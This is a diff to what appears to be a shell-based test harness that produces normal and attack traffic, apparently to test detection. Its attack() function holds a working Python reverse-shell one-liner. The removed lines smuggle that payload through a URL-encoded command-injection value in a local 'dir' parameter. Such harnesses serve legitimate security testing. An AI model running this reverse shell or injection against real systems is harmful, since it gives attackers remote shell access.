@@ -7,7 +7,6 @@ normal() { app_traffic "$WEB_PORT" 60; }
 host_setup() { shell_listener; }
 attack() {
   local code="import socket,os,subprocess;s=socket.create_connection(('127.0.0.1',$LISTEN_PORT));[os.dup2(s.fileno(),f) for f in (0,1,2)];subprocess.call(['/bin/sh','-i'])"
-  local q; q=$(python3 -c 'import sys, urllib.parse; print(urllib.parse.quote(sys.argv[1], safe=""))' "uploads;python3 -c \"$code\"")
-  timeout 15 busybox wget -q -O /dev/null "http://127.0.0.1:$WEB_PORT/report?dir=$q" || true
+  app_inject "$WEB_PORT" "python3 -c \"$code\""
 }
-host_cleanup() { [ -z "${LISTENER:-}" ] || kill "$LISTENER" 2>/dev/null || true; }
+host_cleanup() { shell_listener_stop; }
